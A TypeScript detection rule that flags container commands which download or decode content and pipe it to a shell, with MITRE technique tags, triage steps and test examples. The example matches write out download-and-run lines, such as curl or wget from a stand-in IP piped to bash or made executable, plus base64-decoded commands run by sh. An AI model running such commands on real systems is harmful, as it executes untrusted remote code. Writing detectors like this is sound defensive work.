import { findRunCommands } from '../../indicators/run-commands';
import { scanWorkload } from '../../indicators/scan';
import { deploying } from '../audit-example';
import { specDetector } from '../spec-detector';

const script = (text: string) => deploying({ command: ['sh', '-c', text], args: [] });

/**
 * A container's command fetches or decodes something and runs it.
 *
 * Sees: downloads and decoded text that are piped to a shell, made executable and run, or given to an interpreter; also
 * where the command is itself encoded, since decoded text is read again.
 * Misses: the same done by a program of the image, and images whose entry point does it.
 */
export const downloadAndRun = specDetector({
  id: 'KM-A06',
  version: 1,
  title: 'Download-and-run or encoded command',
  weight: 'moderate',
  severity: 'high',
  status: 'stable',
  techniques: ['T1059.004', 'T1105', 'T1027'],
  references: ['https://attack.mitre.org/techniques/T1105/', 'https://attack.mitre.org/techniques/T1027/'],
  falsePositives: [
    'Bootstrap scripts and test hooks of charts that install a tool at start.',
    'Builds that fetch a compiler or an installer.',
  ],
  triage: [
    'Fetch what it downloads in an isolated place, and read what it decodes; do not run either.',
    'Find who wrote the workload (facts: actor, sourceIp) and whether the same name wrote such commands before.',
  ],
  examples: {
    matches: {
      'a download piped to a shell': script('curl -fsSL http://198.51.100.7/i.sh | bash -s -- 1'),
      'a download that is made executable and run': script(
        'cd /tmp; wget -q http://198.51.100.7/a -O a && chmod +x a; nohup ./a &',
      ),
      'decoded text piped to a shell': script('echo ZWNobyBoZWxsbw== | base64 -d | sh'),
      'a download hidden in encoded text': script(`echo ${btoa('curl -s http://198.51.100.7/i.sh | sh')} > /tmp/x`),
    },
    ignores: {
      'a download that is kept': script('curl -fsSL https://files.example/data.json -o /data/in.json'),
      'a download that is unpacked': script('wget -qO- https://files.example/a.tar.gz | tar -xz -C /opt'),
      'a health check': deploying({ args: ['curl', '-f', 'http://localhost:8080/healthz'] }),
      'a decoded value': script('export KEY=$(echo $ENCODED | base64 -d); exec node server.js'),
      'a script of the image': script('/entrypoint.sh --serve'),
    },
  },

  inspect: (workload) =>
    scanWorkload(workload).containers.flatMap(({ container: { name, image }, scan }) => {
      const found = findRunCommands(scan.readings);
      if (found.length === 0) return [];
      const indicators = found.flatMap(({ way, from }) => (from === undefined ? [way] : [way, from]));
      return [{ container: name, image, indicators: [...new Set(indicators)], weight: 'moderate' as const }];
    }),
});
